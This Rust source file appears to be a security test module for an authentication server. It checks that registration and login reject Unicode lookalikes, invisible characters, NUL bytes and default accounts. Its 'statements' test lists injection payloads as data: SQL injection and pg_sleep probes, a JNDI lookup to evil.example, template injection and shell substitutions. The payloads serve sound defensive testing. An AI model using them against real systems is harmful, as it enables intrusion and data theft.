//! UN: usernames. One name is one account, and no name is a statement, a tag or a line.

use std::fmt::Write as _;

use serde_json::json;

use super::Case;
use super::attack::{Attack, CANARY, Expected, answered, login_failed, refused};
use super::passwords::{logged_in, login, register};
use super::wire::Request;
use crate::server::PASSWORD;

pub(super) const CASES: &[Case] = &[
    ("UN-01", other_cases_of_a_name),
    ("UN-02", letters_that_fold_to_others),
    ("UN-04", letters_that_look_like_others),
    ("UN-05", what_cannot_be_seen),
    ("UN-07", nul_in_every_field),
    ("UN-08", statements),
    ("UN-12", accounts_from_the_start),
];

fn other_cases_of_a_name(attack: &mut Attack<'_>) {
    let name = attack.user();
    let cases = [name.to_uppercase(), name.replace('v', "V"), name.replace("im", "IM")];
    for other in &cases {
        attack.tries(&register(other, PASSWORD), &refused(409, "username_taken"));
    }
    // One counter for all spellings: five attempts, whatever they are written like.
    for other in cases.iter().chain([&name]) {
        attack.tries(&login(other, CANARY), &login_failed());
    }
    let begun = login_failed().recording(&["login_failed", "throttling_begun"]);
    attack.tries(&login(&cases[1], CANARY), &begun);
    for other in cases.iter().chain([&name]) {
        attack.tries(&login(other, PASSWORD), &refused(429, "rate_limited"));
    }
    for reserved in ["admin", "ROOT", "Support"] {
        attack.tries(&register(reserved, PASSWORD), &refused(422, "invalid_request"));
    }
}

fn letters_that_fold_to_others(attack: &mut Attack<'_>) {
    let name = format!("Kiss{}", attack.name());
    assert_eq!(attack.server().register(&name).status, 201);
    for other in ["\u{212a}iss", "Ki\u{17f}s", "K\u{131}ss", "K\u{130}ss", "Ki\u{df}"] {
        let other = name.replace("Kiss", other);
        attack.tries(&register(&other, PASSWORD), &refused(422, "invalid_request"));
        // The Kelvin sign is a K in every respect but its code; the others are other letters.
        let expected = if other.starts_with('\u{212a}') { logged_in() } else { login_failed() };
        attack.tries(&login(&other, PASSWORD), &expected);
    }
}

fn letters_that_look_like_others(attack: &mut Attack<'_>) {
    let name = attack.user();
    for other in [
        name.replace('i', "\u{456}"),
        name.replace('c', "\u{441}"),
        name.replace('v', "\u{3bd}"),
        name.replace('m', "\u{ff4d}"),
        name.replace('i', "\u{e9}"),
    ] {
        attack.tries(&register(&other, PASSWORD), &refused(422, "invalid_request"));
        attack.tries(&login(&other, PASSWORD), &login_failed());
    }
}

fn what_cannot_be_seen(attack: &mut Attack<'_>) {
    let name = attack.user();
    for (before, after) in [
        ("", "\u{200b}"),
        ("\u{200d}", ""),
        ("\u{feff}", ""),
        ("", "\u{ad}"),
        ("\u{202e}", ""),
        ("\u{2066}", "\u{2069}"),
        ("", "\u{301}\u{302}\u{303}\u{304}\u{305}"),
        ("", "\u{a0}"),
        (" ", ""),
        ("", " "),
        ("", "\t"),
        ("x ", ""),
        ("\u{e0041}", ""),
        ("<img src=x>", ""),
        ("", "\r\nx: y"),
        ("-", ""),
        (".", ""),
    ] {
        let other = format!("{before}{name}{after}");
        attack.tries(&register(&other, PASSWORD), &refused(422, "invalid_request"));
        // A login takes any text without NUL, and finds nobody.
        attack.tries(&login(&other, PASSWORD), &login_failed());
    }
}

fn nul_in_every_field(attack: &mut Attack<'_>) {
    let name = attack.user();
    let tokens = attack.login(&name);
    let nul = format!("{name}\0{CANARY}");
    for (method, path, body, expected) in [
        (
            "POST",
            "/register",
            json!({"username": nul, "password": PASSWORD}),
            refused(422, "invalid_request"),
        ),
        ("POST", "/register", json!({"username": "x1y", "password": nul}), refused(422, "invalid_request")),
        ("POST", "/login", json!({"username": nul, "password": PASSWORD}), refused(422, "invalid_request")),
        ("POST", "/login", json!({"username": name, "password": nul}), refused(422, "invalid_request")),
        (
            "POST",
            "/refresh",
            json!({"refresh_token": nul}),
            Expected::one_of(&[(401, "invalid_refresh_token"), (422, "invalid_request")]),
        ),
        (
            "POST",
            "/logout",
            json!({"refresh_token": nul}),
            Expected::one_of(&[(401, "invalid_refresh_token"), (422, "invalid_request")]),
        ),
        (
            "PUT",
            "/me/password",
            json!({"current_password": nul, "new_password": nul}),
            refused(422, "invalid_request"),
        ),
        ("DELETE", "/me", json!({"current_password": nul}), refused(422, "invalid_request")),
        (
            "POST",
            "/login",
            json!({"username": name, "password": PASSWORD, "\0": CANARY}),
            refused(422, "invalid_request"),
        ),
    ] {
        let mut request = Request::json(method, path, body.to_string());
        if path.starts_with("/me") {
            request = request.bearer(&tokens.access);
        }
        attack.tries(&request, &expected);
    }
    for path in ["/me/activity?limit=1%00", "/me/activity?cursor=%00", "/me/activity?%00=1"] {
        attack.tries(&Request::get(path).bearer(&tokens.access), &refused(422, "invalid_request"));
    }
    for path in ["/me/sessions/%00", "/problems/%00", "/docs/%00", "/%00"] {
        let method = if path.starts_with("/me") { "DELETE" } else { "GET" };
        attack.tries(&Request::new(method, path).bearer(&tokens.access), &refused(404, "not_found"));
    }
}

// ASVS 1.2.4
fn statements(attack: &mut Attack<'_>) {
    let name = attack.user();
    let tokens = attack.login(&name);
    for text in [
        "' OR '1'='1",
        "' OR 1=1 --",
        "'; DROP TABLE users; --",
        "\" OR \"\"=\"",
        "') OR ('1'='1",
        "1; SELECT pg_sleep(2)",
        "'||pg_sleep(2)||'",
        "' UNION SELECT password_hash FROM users --",
        "%",
        "_%",
        "\\",
        "\\' OR 1=1 --",
        "*",
        "$1",
        "?1",
        ":name",
        "NULL;",
        "x' COLLATE NOCASE --",
        "randomblob(1000000000)",
        "{{7*7}}",
        "${jndi:ldap://evil.example/x}",
        "$(sleep 2)",
        "`id`",
    ] {
        let username = format!("{name}{text}");
        attack.tries(&login(&username, CANARY), &login_failed());
        let body = json!({"username": text, "password": CANARY}).to_string();
        attack.tries(&Request::post("/login", body), &login_failed());
        attack.tries(&register(&username, PASSWORD), &refused(422, "invalid_request"));
        let encoded = percent_encoded(text);
        for query in [format!("limit={encoded}"), format!("cursor={encoded}"), format!("sort={encoded}")] {
            let asked = Request::get(&format!("/me/activity?{query}")).bearer(&tokens.access);
            attack.tries(&asked, &refused(422, "invalid_request"));
        }
        let ended = Request::new("DELETE", &format!("/me/sessions/{encoded}")).bearer(&tokens.access);
        attack.tries(&ended, &refused(404, "not_found"));
    }
    attack.tries(&Request::get("/me").bearer(&tokens.access), &answered(200));
}

// ASVS 6.3.2
fn accounts_from_the_start(attack: &mut Attack<'_>) {
    for name in ["admin", "root", "test", "guest", "user", "operator", "portcullis"] {
        for password in [name, "password"] {
            attack.tries(&login(name, password), &login_failed());
        }
    }
    let names = "'admin', 'root', 'test', 'guest', 'user', 'operator', 'portcullis'";
    let users = format!("SELECT count(*) FROM users WHERE canonical_name IN ({names})");
    assert_eq!(attack.database.number(&users), 0);
}

/// Every byte of it.
fn percent_encoded(text: &str) -> String {
    text.bytes().fold(String::new(), |mut encoded, byte| {
        write!(encoded, "%{byte:02X}").unwrap();
        encoded
    })
}
